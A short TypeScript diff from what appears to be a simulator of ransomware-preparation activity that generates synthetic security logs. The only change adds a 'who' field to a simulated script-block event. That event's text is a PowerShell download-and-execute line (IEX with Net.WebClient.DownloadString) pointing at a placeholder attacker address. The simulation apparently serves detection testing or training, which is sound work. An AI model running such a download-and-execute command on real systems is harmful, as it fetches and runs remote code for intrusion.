@@ -59,7 +59,7 @@ export const ransomwarePreparation: ScenarioMaker = {
     if (dice.chance(0.5)) {
       story.wait(1, 15);
       const remote = encodedPowerShell(story, lair.address);
-      story.step('control', 'A program for remote control is loaded', 'command-and-control', [run(story, { host: entry.name, who, image: POWERSHELL, commandLine: remote, parentImage: CMD, integrity: 'High' }), scriptBlock(kit, story.now() + 2_000, { host: entry.name, text: `IEX (New-Object Net.WebClient).DownloadString('http://${lair.address}/a')` })]);
+      story.step('control', 'A program for remote control is loaded', 'command-and-control', [run(story, { host: entry.name, who, image: POWERSHELL, commandLine: remote, parentImage: CMD, integrity: 'High' }), scriptBlock(kit, story.now() + 2_000, { host: entry.name, who, text: `IEX (New-Object Net.WebClient).DownloadString('http://${lair.address}/a')` })]);
     }
     story.wait(20, 400);
     const backup = serverOf(world, 'backup');
